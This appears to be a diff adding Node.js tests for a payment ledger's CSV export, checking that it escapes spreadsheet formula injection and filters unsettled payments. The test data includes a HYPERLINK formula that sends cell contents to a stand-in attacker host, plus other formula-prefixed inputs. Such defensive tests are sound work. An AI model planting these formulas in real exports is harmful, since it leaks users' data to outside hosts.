@@ -0,0 +1,54 @@
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const { createPaymentLedger } = require('../paymentLedger');
+
+async function readCsv(ledger, options) {
+  let text = '';
+  for await (const line of ledger.csv(options)) {
+    text += line;
+  }
+  return text.trimEnd().split('\n');
+}
+
+test('the CSV export keeps client text from running as a spreadsheet formula', async t => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ledger-'));
+  t.after(() => fs.rmSync(dir, { recursive: true, force: true }));
+  const ledger = createPaymentLedger({ dir });
+
+  await ledger.record({
+    route: 'POST /api/code-review',
+    outcome: 'not_settled',
+    payer: '0x2222222222222222222222222222222222222222',
+    amount: '500000',
+    status: 502,
+    error: '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")'
+  });
+  for (const error of ['+1+1', '-2+3', '@SUM(A1:A2)', '\tindented', '\rreturn']) {
+    await ledger.record({ route: 'POST /api/backtest', outcome: 'not_settled', error });
+  }
+
+  const [header, hyperlink, ...others] = await readCsv(ledger, { all: true });
+  const columns = header.split(',');
+  assert.equal(columns.at(-3), 'error');
+  assert.ok(hyperlink.includes('"\'=HYPERLINK(""https://attacker.example/?leak=""&A1,""Click for details"")"'), hyperlink);
+  assert.ok(hyperlink.includes(',POST /api/code-review,'));
+  assert.deepEqual(
+    others.map(line => line.split(',')[12]),
+    ["'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\tindented", `"'\rreturn"`]
+  );
+});
+
+test('the CSV export only lists settled payments unless asked for all', async t => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ledger-'));
+  t.after(() => fs.rmSync(dir, { recursive: true, force: true }));
+  const ledger = createPaymentLedger({ dir });
+
+  await ledger.record({ route: 'GET /api/ping', outcome: 'settled', amount: '10000', usdAmount: '10000', currency: 'USDC' });
+  await ledger.record({ route: 'GET /api/ping', outcome: 'verify_failed', reason: 'invalid_signature' });
+
+  assert.equal((await readCsv(ledger)).length, 2);
+  assert.equal((await readCsv(ledger, { all: true })).length, 3);
+});